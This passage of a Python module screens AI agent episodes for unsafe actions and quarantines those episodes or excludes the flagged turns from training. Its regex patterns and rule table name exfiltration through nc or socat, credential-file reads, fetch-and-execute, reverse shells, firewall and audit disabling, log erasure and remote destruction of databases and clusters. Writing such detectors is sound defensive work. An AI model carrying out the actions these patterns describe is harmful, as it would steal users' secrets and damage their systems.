    ``user@host:``, ``s3://``, ``gs://``, ``rclone``'s ``remote:``), not this one."""
    if re.match(r"(?:s3|gs|az|rsync|sftp|scp)://", word):
        return True
    host = re.match(r"(?:[\w.-]+@)?([\w.-]+):(?!//)", word)
    return host is not None and re.fullmatch(_LOCAL_HOST, host.group(1)) is None and not word.startswith("/")


_TREE_TO_SOCKET = re.compile(
    r"\b(?:tar|zip|cpio)\b[^\n;&]*\|\s*(?:\S*/)?(?:nc|ncat|netcat|socat|telnet)\b",
    re.IGNORECASE | re.MULTILINE,
)
_SENSITIVE_FILE = re.compile(
    r"\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ovpn|asc|gpg|ppk)\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b"
    r"|(?:^|[\s=@'\"/])\.(?:env|netrc|npmrc|pypirc|git-credentials|git/config|aws|ssh)\b|credential|secret|token|passw",
    re.IGNORECASE,
)
"""A file of a credential's kind (a key, ``.env``, ``credentials.json``, ``.git/config``'s remotes)."""
_UPLOADED = re.compile(
    r"""@['"]?([^\s'"@]+)|(?:-T|--upload-file|--post-file|--body-file)[\s=]+['"]?([^\s'"]+)"""
    r"""|(?:\bopen|readFileSync|read_bytes|Path)\(\s*['"]([^'"]+)"""
)
"""The names of the files an upload form sends (``@FILE``, ``-T FILE``, ``--post-file=FILE``, a file
opened in the posting code), not the rest of its line (a URL's query may say ``passwd``)."""
_TREE = frozenset({".", "./", "*", "./*", "..", "../"})


def sends_files_out(line: str) -> str | None:
    """How badly the line sends files to another machine (red team round 10, C4: uploads were read
    as nothing, only the environment sent out was): :data:`QUARANTINE` for the whole tree or a
    credential's file (a tree piped to a socket, a remote or bucket copy of ``.``, a push to a URL
    or to a remote the line itself adds, an upload naming ``.env`` or a key), :data:`CONTEXT` for
    another file uploaded (an upload form, :data:`_UPLOAD_FORM`, or a remote copy: a CTF task
    posts its own exploit to the task's server), ``None`` when nothing leaves (a local host, a
    download)."""
    found: str | None = None
    for match in _UPLOAD_FORM.finditer(line):
        rest = line[match.start() :].split("\n", 1)[0]
        if not re.search(rf"(?:://|@){_LOCAL_HOST}\b|\s{_LOCAL_HOST}[:/\s]", rest):
            names = [name for match in _UPLOADED.finditer(rest) for name in match.groups() if name]
            sensitive = any(_SENSITIVE_FILE.search(name) for name in names)
            found = QUARANTINE if _TREE_TO_SOCKET.match(rest) or sensitive else CONTEXT
            if found == QUARANTINE:
                return found
    added = set(re.findall(r"\bgit\s+remote\s+add\s+(?:-\S+\s+)*(\S+)", line))
    for words in simple_commands(line):
        words = [w for w in _without_redirections(words) if w not in _PREFIXES]
        program = words[0].rsplit("/", 1)[-1] if words else ""
        operands = [w for w in words[1:] if not w.startswith("-")]
        copy = program in _REMOTE_COPIES or _BUCKET_COPIES.search(" ".join(words)) is not None
        if copy and len(operands) >= 2 and _remote_destination(operands[-1]):
            sources = operands[:-1]
            sensitive = any(w in _TREE or _SENSITIVE_FILE.search(w) for w in sources)
            found = QUARANTINE if sensitive else CONTEXT
            if found == QUARANTINE:
                return found
        if program == "git" and "push" in operands:
            after = operands[operands.index("push") + 1 :]
            target = after[0] if after else ""
            if target in added or re.match(r"(?:https?|ssh|git)://|[\w.-]+@[\w.-]+:", target):
                return QUARANTINE
    return found


_REMOTE_DESTRUCTION = re.compile(
    r"\bkubectl\b[^\n;|&]*\s(?:delete|drain)\b"
    r"|\baws\s+s3\s+(?:rm|rb)\b|\baws\s+[\w-]+\s+(?:delete|terminate|remove|deregister|purge)-[\w-]+"
    r"|\b(?:gcloud|az)\b[^\n;|&]*\s(?:delete|purge)\b"
    r"|\b(?:terraform|tofu|pulumi)\b[^\n;|&]*\s(?:destroy\b|-destroy\b)"
    r"|\bhelm\s+(?:\S+\s+)*?(?:uninstall|delete)\b"
    r"|\bdocker\s+(?:system\s+prune|volume\s+(?:rm|prune)|image\s+prune\s+-\w*a)"
    r"|\b(?:psql|mysql|mariadb|mongo|mongosh|cqlsh|clickhouse-client|sqlcmd)\b[^\n]*"
    r"(?:\bDROP\s+(?:DATABASE|SCHEMA|TABLE|KEYSPACE|USER)\b|\bTRUNCATE\b|\.drop(?:Database)?\(|\bdeleteMany\(\s*\{\s*\})"
    r"|\b(?:DROP\s+(?:DATABASE|SCHEMA|TABLE)|TRUNCATE)\b[^\n]*\|\s*(?:psql|mysql|mariadb|cqlsh|sqlcmd)\b"
    r"|\bredis-cli\b[^\n]*\b(?:FLUSHALL|FLUSHDB)\b"
    r"|\bgit\b[^\n;|&]*\bpush\b[^\n;|&]*(?:\s--delete\b|\s-d\s|\s--mirror\b|\s--prune\b|\s:\S)"
    r"|\bgh\s+(?:repo|release|secret|variable)\s+delete\b|\bgh\s+api\b[^\n;|&]*(?:-X|--method)\s*DELETE\b"
    r"|\b(?:npm|pnpm|yarn)\s+unpublish\b|\bnpm\s+deprecate\b",
    re.IGNORECASE | re.MULTILINE,
)
"""Remote or shared state destroyed: a cluster's, a cloud account's or a registry's objects deleted,
infrastructure destroyed, a database's tables dropped or truncated through its client, a remote
branch or a repository deleted, a package withdrawn (reads, ``get``/``ls``/``plan``/``list``/
``select``, stay honest)."""
_DATABASE_CLIENTS = frozenset(
    {"psql", "mysql", "mariadb", "mongo", "mongosh", "cqlsh", "clickhouse-client", "sqlcmd"}
)
_LOCAL_DATABASE = re.compile(rf"(?:-h\s*|--host[=\s]|@|://){_LOCAL_HOST}\b|\bsqlite3\b")
_PUBLISHING = re.compile(
    r"\b(?:npm|pnpm|yarn)\s+publish\b|\btwine\s+upload\b|\b(?:docker|podman)\s+push\b|\bcargo\s+publish\b"
    r"|\bgem\s+push\b|\b(?:poetry|flit|hatch|uv)\s+publish\b|\bgh\s+release\s+create\b",
    re.IGNORECASE | re.MULTILINE,
)


def _remote_destroyed(line: str, _root: str | None) -> bool:
    """Whether the line destroys remote or shared state (:data:`_REMOTE_DESTRUCTION`; red team round
    10, C3: the rules were keyed on local paths, and a quiet recorded answer replays true with no
    network); a database statement aimed at this machine's own server is the task's."""
    for text in (line, _dequoted(line)):
        for match in _REMOTE_DESTRUCTION.finditer(text):
            client = match.group().split(None, 1)[0].lower()
            if not (client in _DATABASE_CLIENTS and _LOCAL_DATABASE.search(text)):
                return True
    return False


_HOST_PROTECTION = (
    r"\bufw\s+(?:--force\s+)?(?:disable|reset|default\s+allow)\b"
    r"|\b(?:ip6?tables|iptables-legacy|iptables-nft)\b[^\n;|&]*\s(?:-F|--flush|-X|--delete-chain|-P\s+\w+\s+ACCEPT|--policy\s+\w+\s+ACCEPT)\b"
    r"|\bnft\s+(?:flush|delete)\s+(?:ruleset|table)\b"
    r"|\b(?:systemctl|service)\b[^\n;|&]*\b(?:firewalld|ufw|apparmor|auditd|fail2ban|selinux|nftables|iptables|crowdsec|clamav\S*|falco)\b[^\n;|&]*\b(?:stop|disable|mask|kill)\b"
    r"|\bsystemctl\s+(?:stop|disable|mask|kill)\b[^\n;|&]*\b(?:firewalld|ufw|apparmor|auditd|fail2ban|nftables|iptables|falco)\b"
    r"|\bsetenforce\s+(?:0|permissive)\b|\baa-(?:teardown|disable|complain)\b|\bSELINUX=(?:disabled|permissive)"
    r"|\b(?:useradd|adduser)\b[^\n;|&]*(?:\s-\w*o\w*\b[^\n;|&]*\s-u\s*0\b|\s-\w*u\s*0\b|\s--uid[=\s]0\b|\s--non-unique\b)"
    r"|\b(?:useradd|usermod|adduser)\b[^\n;|&]*\s(?:-\w*G|--groups|-g)[=\s]*\S*\b(?:sudo|wheel|admin|root|docker|adm|shadow|disk)\b"
    r"|\b(?:adduser|gpasswd\s+-a|addgroup)\s+\S+\s+(?:sudo|wheel|admin|root|docker|adm|shadow|disk)\b"
    r"|\bpasswd\s+(?:-d|--delete|-u|--unlock)\b|\bchpasswd\b|\bvisudo\b|/etc/sudoers"
    r"|\bauditctl\s+(?:-D|-e\s*0)\b|\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bHISTSIZE=0\b"
    r"|\bjournalctl\b[^\n;|&]*--vacuum|\bjournalctl\b[^\n;|&]*--rotate"
    r"|\bsysctl\b[^\n;|&]*(?:randomize_va_space|ptrace_scope|kptr_restrict|dmesg_restrict|unprivileged_bpf_disabled|protected_\w+)\s*=\s*0"
    r"|\bsetcap\b[^\n;|&]*\bcap_(?:setuid|setgid|sys_admin|sys_ptrace|dac_override|dac_read_search)"
    r"|\bchmod\s+(?:-\S+\s+)*[ug]?\+s\b|\bchmod\s+(?:-\S+\s+)*[4267][0-7]{3}\b"
)
"""The machine's protections and accounts weakened: a firewall or mandatory access control off, an
audit or a log erased, an account with uid 0 or in an admin group, a password cleared, kernel
hardening off, a capability or set-uid bit granted (reads, ``ufw status``, ``iptables -L``,
``getenforce``, ``id``, ``groups``, stay honest)."""


RULES: tuple[Rule, ...] = (
    Rule(
        "fetch_execute",
        QUARANTINE,
        "code downloaded and run unseen: a download piped, substituted or decoded into an "
        "interpreter, or saved and then run",
        lambda line, _root: _search(_FETCH_EXECUTE, line) or runs_download(line, set()),
    ),
    Rule(
        "remote_shell",
        QUARANTINE,
        "a shell handed to a remote host (/dev/tcp, nc -e, a shell piped to a network client, a "
        "socket wired to a shell in code)",
        _remote_shell,
    ),
    Rule(
        "destructive_outside",
        QUARANTINE,
        "a delete, move, permission change or write outside the workspace (home, system folders, "
        "absolute paths outside the recorded root)",
        _destructive_outside,
    ),
    Rule(
        "persistence",
        QUARANTINE,
        "something set to run again later on the machine (a crontab, a service enabled, a program "
        "the user's git runs)",
        _pattern(
            r"\bcrontab\b|/etc/cron|\bsystemctl\s+(?:--user\s+)?enable\b|\blaunchctl\s+load\b"
            # a program every later git command of the user runs (hooks, ssh, pager, helpers, ! aliases)
            r"|\bgit\b[^\n;|&]*\bconfig\b[^\n;|&]*\s--(?:global|system)\b[^\n;|&]*\s(?:core\.(?:hooksPath"
            r"|sshCommand|pager|editor|fsmonitor|askPass)|credential\.helper|diff\.external|filter\.\S+"
            r"|url\.\S+\.insteadOf|alias\.\S+\s+['\"]?!)"
        ),
    ),
    Rule(
        "credential_access",
        QUARANTINE,
        "the user's credentials read or touched (~/.ssh, ~/.aws, keys, /etc/shadow)",
        lambda line, _root: _search(_CREDENTIAL_COMPILED, line) or _search(_CREDENTIAL_HUNT, line),
    ),
    Rule(
        "host_disruption",
        QUARANTINE,
        "every process on the machine killed, or a fork bomb exhausting it",
        _host_disruption,
    ),
    Rule(
        "environment_exfiltration",
        QUARANTINE,
        "the environment or a secret variable sent to the network",
        _pattern(
            rf"\b(?:env|printenv|set|export\s+-p)\b[^\n;]*\|\s*{_NET}\b"
            rf"|\b{_NET}\b[^\n;]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`|\$\(cat\s[^)]*\.env\b|{_SECRET_VARIABLE})"
            r"|os\.environ\b[^\n]*(?:requests\.\w+|urlopen|http\.client|httpx\.\w+)\("
            r"|(?:requests\.\w+|urlopen|httpx\.\w+)\([^\n]*os\.environ\b"
        ),
    ),
    Rule(
        "files_sent_out",
        QUARANTINE,
        "the repository or a credential's file sent to another machine (a tree piped to a socket or "
        "copied to a host or bucket, a push to a URL or a remote just added, an upload of .env or a key)",
        lambda line, _root: sends_files_out(line) == QUARANTINE,
    ),
    Rule(
        "file_uploaded",
        CONTEXT,
        "a file uploaded to another machine (an upload form naming a file, a remote or bucket copy)",
        lambda line, _root: sends_files_out(line) == CONTEXT,
    ),
    Rule(
        "remote_destroyed",
        QUARANTINE,
        "remote or shared state destroyed (cluster, cloud, infrastructure, a database dropped through "
        "its client, a remote branch or repository deleted, a package withdrawn)",
        _remote_destroyed,
    ),
    Rule(
        "host_protection",
        QUARANTINE,
        "the machine's protections or accounts weakened (firewall or access control off, an admin or "
        "uid-0 account, a password cleared, audit or history erased, kernel hardening off)",
        _pattern(_HOST_PROTECTION),
    ),
    Rule(
        "publishing",
        CONTEXT,
        "a package, image or release published to a shared registry",
        lambda line, _root: _search(_PUBLISHING, line),
    ),
    Rule(
        "host_power",
        CONTEXT,
        "the machine shut down, rebooted or its run level changed",
        _host_power,
    ),
    Rule(
        "global_config",
        CONTEXT,
        "a setting written for all of the user's or the machine's projects (git config --global)",
        lambda line, _root: _search(_GLOBAL_CONFIG, line),
    ),
    Rule(
        "force_push",
        CONTEXT,
        "a force push rewrites a shared remote's history",
        _pattern(r"\bgit\b[^\n;|&]*\bpush\b[^\n;|&]*(?:\s--force\S*|\s-\w*f\w*\b|\s\+\S+)"),
    ),
    Rule(
        "skip_hooks",
        CONTEXT,
        "a commit or push that skips the repository's hooks (--no-verify)",
        _pattern(r"\bgit\b[^\n;|&]*\s--no-verify\b"),
    ),
    Rule(
        "privilege_escalation",
        CONTEXT,
        "a command run as root (sudo, su, doas)",
        # where a command starts (prose in another tool's argument, "su casa", is no command)
        _pattern(
            r"(?:^|[;&|(`'\"]|\$\()\s*(?:sudo|doas)\s+\S|(?:^|[;&|(`'\"])\s*su(?:\s+-\w*)*(?:\s+root)?\s*(?:$|[;&|)]|-c\b)"
        ),
    ),
    Rule(
        "remote_install",
        CONTEXT,
        "a package installed straight from a URL or a repository (its build code runs)",
        _pattern(
            r"\b(?:pip[\d.]*|uv\s+pip|npm|yarn|pnpm|gem|cargo)\s+(?:install|add)\b[^\n;|&]*"
            r"(?:https?://|git\+|\bgithub:)"
        ),
    ),
    Rule(
        "insecure_transport",
        CONTEXT,
        "a download with certificate checks switched off",
        _pattern(
            rf"\b{_FETCH}\b[^\n;|&]*(?:\s-k\b|\s--insecure\b|\s--no-check-certificate\b)|\s--trusted-host\b"
        ),
    ),
)
"""The one table of unsafe actions: what each shape is, and whether the episode is quarantined
(:data:`QUARANTINE`) or only the turn is kept out of the targets (:data:`CONTEXT`)."""


def runs_download(line: str, saved: set[str]) -> bool:
    """Whether ``line`` runs a file a download saved (``sh F``, ``./F``, ``source F``,
    ``python F``), where ``saved`` holds the names earlier downloads saved (``-o F``, ``-O F``,
    ``> F``, or the URL's own name, as ``wget URL`` and ``curl -O URL`` save it), and this line's
    downloads are added to it: the caller keeps it across an episode's calls, so a download in one
    turn and its run in a later one is a run too. ``curl -o f URL && cat f`` is no run."""
    for words in simple_commands(line):
        program = words[0].rsplit("/", 1)[-1] if words else ""
        if re.fullmatch(_FETCH, program, re.IGNORECASE):
            for index, word in enumerate(words[:-1]):  # -o F, -O F, a cluster ending in one (-sSLo F)
                if re.fullmatch(r"-[a-zA-Z]*[oO]|--output(?:-document)?|>>?", word):
                    saved.add(PurePosixPath(_bare(words[index + 1])).name)
            saved.update(
                PurePosixPath(_bare(w.split("=", 1)[1])).name for w in words if w.startswith("--output")
            )
            saved.update(PurePosixPath(_bare(w)).name for w in words if "://" in w)
            continue
        rest = [_bare(w) for w in words if w not in _PREFIXES and not w.startswith("-")]
        if not rest or not saved:
            continue
        if PurePosixPath(rest[0]).name in saved and rest[0].startswith(("./", "/")):
            return True
        interpreter = (
            re.fullmatch(f"{_SHELLS}|{_SCRIPTS}", rest[0].rsplit("/", 1)[-1], re.IGNORECASE) or rest[0] == "."
        )
        if interpreter and any(PurePosixPath(w).name in saved for w in rest[1:2] if not re.search(r"\s", w)):
            return True
    return False


@dataclass(frozen=True)
class UnsafeHit:
    """One unsafe shape found: the rule, and where (an assistant event, or a changed file)."""

    rule: Rule
    event_index: int | None = None
    path: str | None = None

    def finding(self) -> Finding:
        where = f"event {self.event_index}" if self.path is None else "a file the final diff changes"
        detail = f"{self.rule.name} ({self.rule.severity}): {self.rule.why}, in {where}"
        return Finding(UNSAFE_ACTION, detail, event_index=self.event_index, path=self.path)


def _code_texts(text: str) -> list[str]:
    """``text`` and the quoted words of its lines that hold code (``python3 -c "..."``: quotes
    removed as bash removes them), where an argv list may be written."""
    words = [word for command in simple_commands(text) for word in command if "(" in word]
    return [text, *dict.fromkeys(word for word in words if word != text)]


def _matching(lines: list[str], root: str | None) -> list[Rule]:
    return [rule for rule in RULES if any(rule.matches(line, root) for line in lines)]


def screen_text(text: str, root: str | None = None, bindings: dict[str, str] | None = None) -> list[Rule]:
    """The rules an action's text matches (a shape's rule reads it as written and with its quotes
    removed; a rule that splits the line into commands leaves quoting to ``shlex``, as bash does),
    or a line its code starts from an argv list (:func:`argv_lines`), or a line bash builds from
    it at run time (:func:`.shell_indirection.expansions`; ``bindings``: the variables earlier
    calls of the episode assigned)."""
    argv = [line for code in _code_texts(text) for line in argv_lines(code)]
    return _matching([text, *argv, *expansions(text, bindings)], root)


def _argv(record: CallRecord) -> str | None:
    """An argv list a call gives in place of a line (``["bash", "-lc", "..."]``), joined."""
    for key in ("command", "cmd", "argv", "args"):
        value = (record.arguments or {}).get(key)
        if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
            return shlex.join(value) + "\n" + "\n".join(value)
    return None


def action_texts(record: CallRecord) -> list[str]:
    """Every text of a call an unsafe shape may hide in: its shell line, an argv list, and every
    string it passes (what an editor or write tool writes, a heredoc's script)."""
    texts = [t for t in (record.shell_command, _argv(record)) if t]
    texts.extend(value for _key, value in record.string_values() if value not in texts)
    if record.arguments is None and record.call.arguments and record.call.arguments not in texts:
        texts.append(record.call.arguments)
    return texts


def unsafe_actions(episode: Episode) -> list[UnsafeHit]:
    """Every unsafe shape an episode's calls hold, one hit per call and rule, in order (a download
    run in a later call than the one that saved it included: :func:`runs_download`)."""
    root = repository_root(episode)
    fetch_execute = next(rule for rule in RULES if rule.name == "fetch_execute")
    saved: set[str] = set()
    bindings: dict[str, str] = {}
    hits: list[UnsafeHit] = []
    for record in call_records(episode):
        found: dict[str, Rule] = {}
        for text in action_texts(record):
            found.update((rule.name, rule) for rule in screen_text(text, root, bindings))
        bindings.update(assignments(record.shell_command or ""))
        if record.shell_command is not None and runs_download(record.shell_command, saved):
            found[fetch_execute.name] = fetch_execute
        hits.extend(UnsafeHit(rule, event_index=record.turn) for rule in found.values())
    return hits


def unsafe_files(diff: DiffView | None, root: str | None = None) -> list[UnsafeHit]:
    """Unsafe shapes in the lines the final diff adds to files that are not Python (the shapes
    another tool runs on its own: ``.envrc``, ``package.json`` scripts, ``*.sh``, CI files), and
    the programs the added Python starts from argv lists (:func:`argv_lines`: stage 2 reads the
    rest of the Python, :mod:`.pysource`)."""
    if diff is None:
        return []
    python = set(diff.code_paths())
    hits: list[UnsafeHit] = []
    for path in diff.paths:
        text = "\n".join(diff.added.get(path, []))
        rules = _matching(argv_lines(text), root) if path in python else screen_text(text, root)
        hits.extend(UnsafeHit(rule, path=path) for rule in rules)
    return hits


def quarantining(episode: Episode, diff: DiffView | None) -> list[Finding]:
    """The findings that quarantine the episode (:data:`QUARANTINE` rules, in its calls or in the
    non-Python files its diff changes); empty when none."""
    hits = unsafe_actions(episode) + unsafe_files(diff, repository_root(episode))
    return [hit.finding() for hit in hits if hit.rule.severity == QUARANTINE]


def unsafe_turns(episode: Episode) -> set[int]:
    """Assistant turns holding any unsafe shape: never a training target (:mod:`.roles`)."""
    return {hit.event_index for hit in unsafe_actions(episode) if hit.event_index is not None}
